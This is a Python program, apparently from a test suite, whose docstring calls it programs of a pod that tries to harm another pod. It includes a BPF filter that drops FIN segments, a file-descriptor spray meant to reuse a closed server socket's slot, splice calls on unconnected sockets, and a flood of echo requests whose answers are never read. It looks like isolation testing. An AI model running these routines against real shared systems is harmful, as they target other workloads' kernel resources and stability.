"""Programs of a pod that tries to harm another pod.

server PORT               echoes what it reads; closes a connection on which it reads a "Q"
splice COUNT              splices COUNT sockets that are not connected, and prints "spliced"
closed HOST PORT ROUNDS   lets the server close and never sees the FIN, opens many files that block, so that one of them lies where the file of the
                          server's socket lay, and sends on; prints "sent"
unread COUNT HOST...      opens COUNT connections to port 8000 of each host, has 96 messages echoed on each, and reads none of the answers; prints
                          "asked", and ends with its input
"""
import ctypes
import os
import select
import socket
import struct
import sys

from wire import connect, listen, receive

SO_ATTACH_FILTER = 26
# classic BPF: takes no segment with FIN, the lowest bit of byte 13 of the TCP header
NO_FIN = [(0x30, 0, 0, 13), (0x45, 0, 1, 1), (0x06, 0, 0, 0), (0x06, 0, 0, 0x40000)]
FILES = 1600


def serve(port):
    listener = listen(port)
    poll = select.epoll()
    poll.register(listener, select.EPOLLIN)
    socks = {}
    while True:
        for fd, _ in poll.poll():
            if fd == listener.fileno():
                sock, _ = listener.accept()
                sock.setblocking(False)
                socks[sock.fileno()] = sock
                poll.register(sock, select.EPOLLIN)
                continue
            try:
                data = socks[fd].recv(65536)
                if b"Q" not in data and data:
                    socks[fd].send(data)
                    continue
            except BlockingIOError:
                continue
            except ConnectionError:
                pass
            poll.unregister(fd)
            socks.pop(fd).close()


def splice(count):
    _, pipe = os.pipe()
    for _ in range(count):
        with socket.socket() as sock:
            try:
                os.splice(sock.fileno(), pipe, 1)
            except OSError:
                pass
    print("spliced")


def take_turns(sock, turns):
    for _ in range(turns):
        sock.send(b"a")
        receive(sock, 100, 2)


def drop_fin(sock):
    code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *each) for each in NO_FIN))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HxxxxxxQ", len(NO_FIN), ctypes.addressof(code)))


def send_to_closed(host, port):
    sock = connect(host, port)
    take_turns(sock, 6)
    drop_fin(sock)
    sock.send(b"Q")
    select.select([], [], [], 0.15)
    files = []
    for cpu in os.sched_getaffinity(0):
        os.sched_setaffinity(0, {cpu})
        files += [os.open("/dev/null", os.O_RDONLY) for _ in range(FILES // os.cpu_count())]
    os.sched_setaffinity(0, range(os.cpu_count()))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
    for _ in range(6):
        sock.send(b"b")
    for file in files:
        os.close(file)
    sock.close()


def leave_unread(count, hosts):
    socks = [connect(host, 8000) for host in hosts for _ in range(count)]
    for sock in socks:
        take_turns(sock, 4)
    for _ in range(96):
        for sock in socks:
            try:
                sock.send(b"z" * 1000)
            except BlockingIOError:
                pass
    print("asked")
    sys.stdin.read()


role, *words = sys.argv[1:]
if role == "server":
    serve(int(words[0]))
elif role == "splice":
    splice(int(words[0]))
elif role == "closed":
    for _ in range(int(words[2])):
        send_to_closed(words[0], int(words[1]))
    print("sent")
else:
    leave_unread(int(words[0]), words[1:])
